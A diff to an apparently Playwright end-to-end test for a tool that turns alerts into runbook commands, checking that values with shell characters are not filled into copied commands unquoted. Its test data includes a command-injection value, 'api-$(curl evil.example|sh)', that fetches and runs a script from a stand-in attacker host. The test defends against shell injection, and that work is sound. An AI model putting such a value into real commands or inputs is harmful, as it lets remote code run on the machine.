@@ -189,6 +189,10 @@ test.describe('alerts in, runbooks out', () => {
       await expect(context).toContainText('holds shell characters, not filled in');
       // Not filled: the command keeps its placeholder until the responder takes the value quoted.
       await expect(page.locator('.code-block').first()).not.toContainText('curl evil');
+      // Copied as it stands, the command names the placeholder it still holds.
+      await page.locator('.code-block').first().getByRole('button', { name: /Copy/ }).click();
+      await expect(page.locator('.code-block').first().getByRole('button', { name: /Copied with placeholders to replace: \{\{pod\}\}/ })).toBeVisible();
+      await expect.poll(readClipboard).toBe('kubectl -n payments describe pod {{pod}}');
       await page.keyboard.press('q');
       await expect(context).toContainText("'api-$(curl evil.example|sh)' (quoted for the shell)");
       await page.locator('.code-block').first().getByRole('button', { name: /Copy/ }).click();
